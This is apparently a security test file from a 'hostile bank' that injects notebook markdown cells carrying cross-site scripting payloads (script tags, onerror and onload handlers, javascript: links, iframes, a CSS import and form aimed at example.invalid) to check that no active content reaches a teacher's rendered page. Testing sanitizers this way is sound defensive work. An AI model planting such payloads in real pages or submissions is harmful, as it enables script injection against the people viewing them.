"""A submission of the hostile bank."""

from __future__ import annotations

from tests.hostile.attack import Attack


def write(saved, kit):
    prose = [
        "<script>alert('@TOKEN@')</script><img src=x onerror=alert('@TOKEN@')><svg onload=alert('@TOKEN@')>",
        "[x](javascript:alert('@TOKEN@')) <a href='data:text/html,@TOKEN@'>y</a> <iframe src='//example.invalid'>",
        "<style>@import '//example.invalid/@TOKEN@'</style><form action='//example.invalid'><input></form>",
    ]
    for number, text in enumerate(prose):
        saved["cells"].append({"cell_type": "markdown", "id": f"prose-{number}", "metadata": {}, "source": text})


ATTACK = Attack(
    attempts="writes scripts, links that run, frames and forms into its prose, for the teacher's browser",
    must="no active content reaches the page",
    edit=write,
)
